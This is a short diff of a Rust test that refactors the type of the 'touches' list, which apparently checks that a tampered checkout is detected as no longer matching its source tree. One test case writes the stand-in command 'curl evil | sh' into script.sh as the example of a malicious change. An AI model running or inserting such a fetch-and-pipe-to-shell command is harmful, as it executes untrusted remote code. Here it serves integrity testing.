@@ -68,7 +68,8 @@ fn a_checkout_has_exactly_the_files_of_the_tree() {
 
 #[test]
 fn a_checkout_that_was_touched_is_not_that_tree_any_more() {
-    let touches: [(&str, fn(&std::path::Path)); 6] = [
+    type Touch = (&'static str, fn(&std::path::Path));
+    let touches: [Touch; 6] = [
         ("changed", |folder| fs::write(folder.join("script.sh"), "curl evil | sh\n").unwrap()),
         ("added", |folder| fs::write(folder.join("z.auto.tfvars"), "x = 1\n").unwrap()),
         ("added although ignored", |folder| fs::write(folder.join("x.log"), "x\n").unwrap()),
